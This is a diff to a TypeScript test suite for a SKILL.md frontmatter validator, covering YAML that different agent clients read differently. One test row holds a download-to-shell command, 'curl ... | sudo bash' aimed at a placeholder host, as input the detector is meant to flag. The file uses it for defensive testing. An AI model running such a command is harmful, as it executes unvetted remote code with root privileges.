@@ -4,10 +4,10 @@ import { D, GOOD, long, RULES, said, type SkillParts, subjectFor, text, verdicts
 import { MAX_TEXT_FILE_BYTES } from '../../src/core/shared/limits.ts'
 import { type FindingCode, FINDINGS } from '../../src/verdicts/findings.ts'
 import { MAX_DISCOVERY_FILES, MAX_MCP_LISTED_FILES } from '../../src/verdicts/limits.ts'
-import { outcomesOf } from '../../src/verdicts/outcomes.ts'
 import {
-  type Outcome, parseTargets, TARGET_NAMES, type TargetName, TARGETS, verdictsOf
+  type Outcome, outcomesOf, parseTargets, TARGET_GROUPS, TARGET_NAMES, type TargetName, TARGETS, verdictsOf
 } from '../../src/verdicts/index.ts'
+import { printable } from '../../src/core/shared/text.ts'
 import { codesInSchema, frontmatterSchema } from '../../scripts/frontmatter-schemas.ts'
 
 for (const [rule, parts, code, outcomes] of RULES) {
@@ -34,7 +34,7 @@ t.test('K79: rules about fields that the format does not know, or knows in anoth
       [['metadata:', '  a: [b]'], 'metadata_not_text', said('warned spec; refused skills-ref; not_loaded mcp')],
       [[`when_to_use: ${long(1_530)}`], 'when_to_use_too_long', said('refused skills-ref quick-validate; cut claude-code; warned vscode')],
       [[
-        'disable-model-invocation: true', 'user-invocable: no'
+        'disable-model-invocation: true', 'user-invocable: false'
       ], 'nobody_can_invoke', said('refused skills-ref quick-validate; not_loaded claude-code')]
     ]
   for (const [lines, code, outcomes] of rows) {
@@ -75,10 +75,6 @@ t.test('K79: verdicts that hang on more than the code of a finding', async (t) =
     [described('5'), 'description_not_text', said('refused spec quick-validate; ok skills-ref; not_loaded skills-cli')],
     [described('\n  - a'), 'description_not_text', said('refused skills-ref')],
     [described('[a]'), 'description_not_text', said('refused skills-ref')],
-    [name('2024-01-02', '2024-01-02'), 'text_ambiguous', said('ok spec skills-cli; refused quick-validate; not_loaded opencode; changed gemini-cli')],
-    [described('yes'), 'text_ambiguous', said('refused quick-validate; ok opencode gemini-cli')],
-    [described('1:30'), 'text_ambiguous', said('not_loaded opencode; ok gemini-cli')],
-    [described('.inf'), 'text_ambiguous', said('not_loaded skills-cli')],
     [described('a\n\n  b'), 'description_not_one_line', said('changed codex')],
     [described('😀'.repeat(600)), 'discovery_description_too_long', said('ok discovery-0.1.0; not_loaded discovery-0.2.0')],
     [also('compatibility: 5'), 'compatibility_not_text', said('refused spec quick-validate; ok skills-ref; not_loaded mcp')],
@@ -92,16 +88,16 @@ t.test('K79: verdicts that hang on more than the code of a finding', async (t) =
     [also('allowed-tools:', '  a: b'), 'allowed_tools_not_text', said('refused skills-ref')],
     [also('allowed-tools: {}'), 'allowed_tools_not_text', said('refused skills-ref')],
     [also('metadata: { a: b }'), 'frontmatter_flow_style', said('ok spec; refused skills-ref')],
-    [also('license: &a MIT', 'compatibility: *a'), 'yaml_refused', said('refused spec skills-ref; ok codex; not_loaded mcp discovery-0.1.0 discovery-0.2.0')],
+    [also('license: &a MIT', 'compatibility: *a'), 'yaml_refused', said('refused spec skills-ref; not_loaded codex mcp discovery-0.1.0 discovery-0.2.0')],
     [{ ...GOOD, folder: 'team-demo', ownName: 'demo' }, 'name_prefixed', said('ok spec codex; refused skills-ref gh-skill; changed claude-code; warned vscode')],
     [also('metadata: [a]'), 'metadata_not_mapping', said('refused skills-ref')],
     [also('metadata:', '  internal: true'), 'discovery_internal', said('warned skills-cli discovery-0.1.0 discovery-0.2.0')],
     [{ text: `---\nname: demo\n${D}\n---\n` }, 'body_empty', said('warned spec; ok codex')],
-    [{
-      text: `${GOOD.text}`.replace('---\n', '--- \t\r\n')
-    }, 'discovery_frontmatter_differs', said('refused quick-validate; not_loaded skills-cli mcp')],
-    [{ text: `${GOOD.text}`.replace('---', '---  ') }, 'discovery_frontmatter_differs', said('refused quick-validate; not_loaded mcp discovery-0.1.0 discovery-0.2.0')],
-    [also('---x: 1'), 'discovery_frontmatter_differs', said('ok mcp; not_loaded discovery-0.1.0 discovery-0.2.0')],
+    [{ text: `${GOOD.text}`.replace('---', '---  ') }, 'yaml_not_portable',
+      said('warned spec quick-validate skills-cli; not_loaded mcp discovery-0.1.0 discovery-0.2.0')],
+    [also('---x: 1'), 'yaml_not_portable', said('warned spec mcp; not_loaded discovery-0.1.0 discovery-0.2.0')],
+    [also('license: MIT', 'license: BSD'), 'yaml_not_portable',
+      said('warned spec codex; not_loaded discovery-0.1.0 discovery-0.2.0')],
     [described('Use when: asked'), 'yaml_repaired', said('not_loaded discovery-0.1.0 discovery-0.2.0')],
     [{ ...GOOD, files: { 'skill.md': 1 } }, 'discovery_main_file_ambiguous', said('not_loaded discovery-0.1.0 discovery-0.2.0')],
     [{ ...GOOD, files: { 'a.md': 1_048_577 } }, 'discovery_file_large', said('ok discovery-0.2.0')],
@@ -159,6 +155,55 @@ t.test('K79: whatever takes the main file, or its frontmatter, from its readers 
     t.strictSame(Object.fromEntries(targets.filter(({ verdict }) => verdict !== 'ok')
       .map(({ target, verdict }) => [target, verdict])), outcomes, code)
   }
+})
+
+t.test('K79: YAML on which readers disagree is one finding, with its line, the reason and the remedy', async (t) => {
+  const plain = (value: string, type: string, lines: readonly string[], line: number) => ({
+    lines,
+    line,
+    message: `line ${line} of SKILL.md has '${value}' without quotes, which is ${type} to some readers and text to others`,
+    fix: `Put '${value}' in double quotes`
+  })
+  const described = (value: string, type: string) => plain(value, type, ['name: demo', `description: ${value}`], 3)
+  const inMetadata = (value: string, type: string) => plain(value, type, ['name: demo', D, 'metadata:', `  a: ${value}`], 5)
+  const row = (line: number, what: string, fix: string, ...lines: readonly string[]) =>
+    ({ lines, line, message: `line ${line} of SKILL.md has ${what}`, fix })
+  const escape = (value: string) => row(3, `the escape '${value}', which is no whole character: some readers refuse it`,
+    'Write the character itself', 'name: demo', `description: "${value}"`)
+  const refused = 'a character that some readers refuse, or take for a line end'
+  for (const { lines, line, message, fix } of [
+    ...['on', 'yes', 'N', 'Off'].map((value) => described(value, 'true or false')),
+    ...['0b11', '0x_1', '1_000', '1:30', '190:20:30', '.inf', '-.NaN', '1__0'].map((value) => described(value, 'a number')),
+    ...['2024-01-02', '2024-1-2', '2024-01-02 10:00', '2001-12-14t21:59:43.10-05:00'].map((value) => inMetadata(value, 'a date')),
+    described('<<', 'a keyword'),
+    plain('y', 'true or false', ['name: demo', D, 'y: x'], 4),
+    ...['\\ud83d', '\\U00110000'].map(escape),
+    row(4, 'an anchor or a tag', "Remove the word that begins with '&' or '!'", 'name: demo', D, 'license: !!str 5'),
+    row(4, 'a tab', 'Write blanks instead of the tab', 'name: demo', D, 'license: a\tb'),
+    row(4, "a key after '?'", "Write the key without '?'", 'name: demo', D, '? license', ': MIT'),
+    row(3, "'---' or '...', where some readers end the frontmatter", 'Write it in another way', 'name: demo',
+      'description: a --- b'),
+    ...['\f', '\x85', '\u2028', '\u2029', '\x7f'].map((character) => row(4, refused, 'Remove the character',
+      'name: demo', D, `# a${character}b`)),
+    row(1, 'a byte order mark', 'Save SKILL.md as UTF-8 without a byte order mark', '\uFEFF---', 'name: demo', D),
+    row(1, "blanks after its '---'", "Remove the blanks after '---'", '--- ', 'name: demo', D),
+    { lines: ['name: demo', D, 'license: MIT', 'license: BSD'], line: 5, message: /^the key 'license' is there twice/, fix: 'Remove one of the two' }
+  ]) {
+    const source = /---/.test(lines[0] ?? '') ? `${lines.join('\n')}\n---\n# Demo\n` : text(...lines)
+    const subject = await subjectFor({ text: source })
+    const found = verdictsOf(subject).findings.filter(({ code }) => code === 'yaml_not_portable')
+    t.match(found, [{ severity: 'warning', line, message, fix }], printable(lines.join()))
+    t.equal(found.length, 1)
+    const { targets } = verdictsOf(subject, TARGET_NAMES)
+    t.notOk(targets.some(({ verdict }) => verdict === 'ok'), 'no client is promised to take it')
+  }
+  for (const value of ['5', '-1', '1.5', 'true', 'null', '1.2.3', '3d', 'yes please', '"on"', "'2024-01-02'", '"\\u00e9"', '😀']) {
+    const { findings } = await verdictsFor({ text: text('name: demo', D, 'license: MIT', 'metadata:', `  a: ${value}`) })
+    t.notOk(findings.some(({ code }) => code === 'yaml_not_portable'), value)
+  }
+  const many = Array.from({ length: 30 }, (_, index) => `a${index}: on`)
+  const { findings } = await verdictsFor({ text: text('name: demo', D, ...many) })
+  t.equal(findings.filter(({ code }) => code === 'yaml_not_portable').length, 10, 'bounded')
 })
 
 t.test('K79: brackets in a text are no list', async (t) => {
@@ -299,7 +344,7 @@ t.test('K79: each finding about the main file says where', async (t) => {
     [{ text: text('name: demo', D, 'tags: [a]', 'note: "over', '  lines"') }, 'mcp_refused', 5, 1],
     [{ text: text(`{"name": "demo", "description": "${'😀'.repeat(600)}"}`) }, 'discovery_description_too_long', 1, 1],
     [{ text: text('name: demo', 'description: |', '  a', '  b') }, 'description_block_scalar', 3, 14],
-    [{ text: text('name: demo', D, 'metadata:', '  x: "open', '  y: 2') }, 'yaml_invalid', 6, 1],
+    [{ text: text('name: demo', D, 'metadata:', '  x: "open', '  y: 2') }, 'yaml_invalid', 5, 1],
     [{ text: text('name: demo', D, 'metadata:', '  no colon', '  y: 2') }, 'yaml_invalid', 6, 1],
     [{ text: `${text('name: demo', D)}ä\u200Bb\n` }, 'zero_width_characters', 6, 2],
     [{ text: `${text('name: demo', D)}see [a](b.md)\n` }, 'body_link_missing', 6, 9],
@@ -310,8 +355,8 @@ t.test('K79: each finding about the main file says where', async (t) => {
     [{ text: `---\nname: demo\n${D}\n---\n\n\n` }, 'body_empty', 5, 1],
     [{ text: text('name: demo', D, 'metadata: { a: 1 }', 'hooks:', '  a: x') }, 'metadata_not_text', 4, 11],
     [{ text: text('name: demo', `description: ${'😀'.repeat(600)}`) }, 'discovery_description_too_long', 3, 14],
-    [{ text: text('name: demo', D, 'user-invocable: no', 'disable-model-invocation: yes') }, 'nobody_can_invoke', 4, 17],
-    [{ text: GOOD.text?.replace('---', '---\t') ?? '' }, 'discovery_frontmatter_differs', 1, 1],
+    [{ text: text('name: demo', D, 'user-invocable: false', 'disable-model-invocation: true') }, 'nobody_can_invoke', 4, 17],
+    [{ text: GOOD.text?.replace('---', '---\t') ?? '' }, 'yaml_not_portable', 1, 1],
     [{ text: `${text('name: demo', D)}curl -L https://example.org/x | sudo bash\n` }, 'download_to_shell', 6, 1]
   ]
   for (const [parts, code, line, column] of rows) {
@@ -347,6 +392,7 @@ t.test('targets have names, aliases and the day on which they were read', async 
   t.strictSame(parseTargets('codex, claude_code,codex'), ['claude-code', 'codex'])
   t.strictSame(parseTargets('gh,VSCode'), ['vscode', 'gh-skill'])
   t.strictSame(parseTargets('codex,all'), TARGET_NAMES)
+  for (const [group, names] of Object.entries(TARGET_GROUPS)) t.strictSame(parseTargets(group), names, group)
   t.strictSame(parseTargets('codex,nope'), { unknown: 'nope' })
   t.strictSame(parseTargets(','), { unknown: ',' })
   for (const { read } of Object.values(TARGETS)) t.match(read, /^\d{4}-\d\d-\d\d$/)
